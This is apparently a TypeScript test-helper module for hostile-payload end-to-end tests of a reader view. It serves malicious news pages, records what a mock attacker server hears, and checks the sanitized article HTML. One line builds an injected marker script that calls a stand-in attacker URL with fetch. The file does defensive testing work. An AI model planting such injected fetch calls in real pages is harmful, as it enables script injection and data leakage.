// What the two runs of the hostile-payload table share (tests/e2e/security.spec.ts in Chromium over CDP,
// tests/e2e/flows/hostile.spec.ts in each engine): the pages served, the attacker's address for each payload, the
// checks on the reader's article HTML, and a pipeline that loads the next payload's page while the reader of the
// current one is checked.
import { JSDOM } from 'jsdom';
import type { FixtureServer } from './server';
import { violations } from '../fixtures/hostile/invariants';
import { fill, hostilePage, PAYLOADS, type Category, type PageOptions, type Payload } from '../fixtures/hostile/payloads';

export { PAYLOADS };

/**
 * The page options for one payload. Each payload gets its own path on the attacker's server, so what the attacker
 * heard is told apart per payload even while the next payload's page loads beside it. A payload script that runs
 * anywhere sets the marker and reports the protocol it ran under (`at=http:` on the page itself is no leak).
 */
export function payloadEnv(attackerUrl: string, img: string, category: string, index: number): PageOptions {
  const evil = `${attackerUrl}/p/${category}/${index}`;
  return { evil, img, mark: `window.__bacaPwned=1,fetch('${evil}/ran?at='+location.protocol)` };
}

/** What the attacker's server heard for one payload (paths under its own prefix). */
export function heardFor(attacker: FixtureServer, category: string, index: number): string[] {
  const prefix = `/p/${category}/${index}/`;
  return attacker.requests.filter((u) => u.startsWith(prefix));
}

/** Serve /hostile/<category>/<index> from `server`: the payload inside a whole news page. */
export function serveHostile(server: FixtureServer, envFor: (category: string, index: number) => PageOptions): void {
  server.route((req, res) => {
    const m = /^\/hostile\/([\w-]+)\/(\d+)$/.exec(req.url ?? '');
    const payload = m ? PAYLOADS[m[1] as Category]?.[Number(m[2])] : undefined;
    if (!payload) return false;
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' })
      .end(hostilePage(payload, envFor(m![1]!, Number(m![2]))));
    return true;
  });
}

/** What is wrong with the reader's article (its innerHTML and innerText) for payload `p`: invariants and expectations. */
export function articleProblems(html: string, text: string, p: Payload, env: PageOptions): string[] {
  const holder = new JSDOM('').window.document.createElement('div');
  holder.innerHTML = html;
  const problems = violations(holder, { evil: env.evil, readerExtras: { attrs: ['class', 'tabindex'] } });
  for (const el of Array.from(holder.querySelectorAll('[class]'))) {
    if (el.getAttribute('class') !== 'table-wrap') problems.push(`page class ${el.getAttribute('class')}`);
  }
  for (const s of p.expected.notHtml ?? []) if (html.toLowerCase().includes(fill(s, env).toLowerCase())) problems.push(`html has ${s}`);
  for (const s of p.expected.text ?? []) if (!text.includes(s)) problems.push(`text lacks ${s}`);
  for (const s of p.expected.notText ?? []) if (text.includes(s)) problems.push(`text has ${s}`);
  return problems;
}

/**
 * For each item in order: `prepare` it (up to `ahead` items before the one being finished), then `finish` it,
 * collecting each item's failures as "<label>: <message>" lines (whether `prepare` or `finish` threw); `cleanup`
 * always runs for a prepared item.
 */
export async function pipelined<T, P>(
  items: readonly T[],
  { ahead = 0 }: { ahead?: number },
  steps: {
    label: (item: T) => string;
    prepare: (item: T, index: number) => Promise<P>;
    finish: (prepared: P, item: T, index: number) => Promise<string[]>;
    cleanup: (prepared: P) => Promise<void>;
  },
): Promise<string[]> {
  const failures: string[] = [];
  const message = (err: unknown) => (err instanceof Error ? err.message.split('\n')[0]! : String(err));
  const started: Promise<P>[] = [];
  for (let i = 0; i < items.length; i++) {
    for (let j = i; j <= i + ahead && j < items.length; j++) {
      if (started[j]) continue;
      started[j] = steps.prepare(items[j]!, j);
      started[j]!.catch(() => undefined); // awaited in order below
    }
    let prepared: P;
    try {
      prepared = await started[i]!;
    } catch (err) {
      failures.push(`${steps.label(items[i]!)}: ${message(err)}`);
      continue;
    }
    try {
      const problems = await steps.finish(prepared, items[i]!, i);
      if (problems.length) failures.push(`${steps.label(items[i]!)}: ${problems.join('; ')}`);
    } catch (err) {
      failures.push(`${steps.label(items[i]!)}: ${message(err)}`);
    } finally {
      await steps.cleanup(prepared).catch(() => undefined);
    }
  }
  return failures;
}
